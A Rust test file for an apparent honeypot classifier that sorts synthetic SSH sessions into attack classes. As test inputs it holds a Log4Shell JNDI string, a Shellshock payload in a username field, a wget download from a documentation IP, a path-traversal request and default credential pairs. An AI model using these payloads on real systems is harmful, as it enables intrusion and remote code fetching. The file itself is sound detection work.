//! One session per rule, and what beats what.

use super::*;
use base::Timestamp;
use logwire::attack::{AttackEvent, AuthMethod, Transport, What};

fn folded(transport: Transport, whats: &[What]) -> Summary {
    let mut summary = Summary::default();
    for (number, what) in whats.iter().enumerate() {
        let at = Timestamp::from_micros(1_795_240_800_000_000 + number as i64);
        let event = AttackEvent {
            at,
            session: "s".into(),
            src_ip: "203.0.113.7".parse().unwrap(),
            src_port: 1,
            dst_ip: None,
            dst_port: 22,
            protocol: "ssh".into(),
            transport,
            what: what.clone(),
        };
        summary.apply(&event, at);
    }
    summary
}

fn class(whats: &[What]) -> (AttackClass, String) {
    let (class, reason) = classify(&folded(Transport::Tcp, whats));
    (class, reason.rule)
}

fn tried(user: &str, password: &str) -> What {
    let (user, password) = (user.into(), password.into());
    What::Auth { user, password, method: AuthMethod::Password, key: None, success: false }
}

fn typed(line: &str) -> What {
    What::Command { line: line.into() }
}

fn asked(target: &str) -> What {
    What::Request { verb: "GET".into(), target: target.into(), agent: None }
}

#[test]
fn every_rule_has_its_session() {
    let hello = What::Fingerprint { version: "SSH-2.0-x".into(), hassh: None };
    let forward = What::Forward { host: "mail.example".into(), port: 25 };
    let control = What::IcsControl { function: "write".into() };
    let file = What::FileIn { sha256: "a".repeat(64), name: None, url: None, size: None };
    let guesses: Vec<What> = ["a", "b", "c"].map(|password| tried("root", password)).to_vec();
    let sprayed = vec![tried("root", "root"), tried("admin", "admin"), tried("pi", "raspberry")];
    let rows: Vec<(Vec<What>, AttackClass, &str)> = vec![
        (vec![], AttackClass::Scan, "no-byte"),
        (vec![What::ConnOpen, What::ConnClose { duration_ms: 1 }], AttackClass::Scan, "no-byte"),
        (vec![hello.clone()], AttackClass::BannerGrab, "hello"),
        (vec![asked("/")], AttackClass::BannerGrab, "request"),
        (sprayed, AttackClass::CredentialSpray, "few-passwords-per-user"),
        (vec![tried("root", "root")], AttackClass::CredentialSpray, "few-passwords-per-user"),
        (guesses.clone(), AttackClass::CredentialGuessing, "many-passwords-per-user"),
        (vec![tried("root", "a"), forward.clone()], AttackClass::ProxyAbuse, "forward"),
        (vec![forward, typed("uname -a")], AttackClass::CommandExecution, "command"),
        (vec![typed("uname"), asked("/?x=${jndi:ldap://198.51.100.9/a}")], AttackClass::ExploitAttempt, "technique"),
        (vec![tried("() { :;}; id", "x")], AttackClass::ExploitAttempt, "technique"),
        (vec![typed("wget http://198.51.100.9/x"), asked("/../../etc")], AttackClass::Download, "file"),
        (vec![What::FileRef { url: "http://198.51.100.9/x".into() }], AttackClass::Download, "file"),
        (vec![file, control], AttackClass::IcsControl, "control-function"),
    ];
    for (whats, want, rule) in rows {
        assert_eq!(class(&whats), (want, rule.to_owned()), "{whats:?}");
    }
    let (udp, _) = classify(&folded(Transport::Udp, &guesses));
    assert_eq!(udp, AttackClass::UdpProbe, "whatever a datagram says, its source may be forged");
}

#[test]
fn a_reason_names_its_facts() {
    let (_, reason) = classify(&folded(Transport::Tcp, &[tried("root", "a"), tried("root", "b")]));
    let facts: Vec<(&str, &str)> = reason.facts.iter().map(|(name, value)| (name.as_str(), value.as_str())).collect();
    assert_eq!(facts, [("attempts", "2"), ("users", "1"), ("passwords", "2")]);
}

#[test]
fn only_sessions_without_content_flood() {
    assert_eq!(as_flood(AttackClass::Scan, FLOOD_PER_MINUTE - 1), None);
    for class in AttackClass::ALL {
        assert_eq!(as_flood(class, FLOOD_PER_MINUTE).is_some(), is_empty_class(class));
    }
}
